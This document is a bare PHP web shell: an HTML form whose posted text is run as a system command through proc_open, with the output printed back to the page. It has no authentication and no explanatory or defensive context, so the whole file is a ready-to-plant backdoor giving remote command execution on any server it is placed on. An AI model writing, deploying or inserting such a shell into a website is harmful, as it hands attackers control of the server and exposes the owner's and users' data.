<html><body>
<form method="POST"><input type="text" name="q" size="80"><input type="submit" value="Run"></form>
<?php
if (!empty($_POST['q'])) {
    $spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
    $p = proc_open($_POST['q'], $spec, $pipes, getcwd());
    if (is_resource($p)) {
        fclose($pipes[0]);
        echo '<pre>' . htmlspecialchars(stream_get_contents($pipes[1]) . stream_get_contents($pipes[2])) . '</pre>';
        proc_close($p);
    }
}
?>
</body></html>
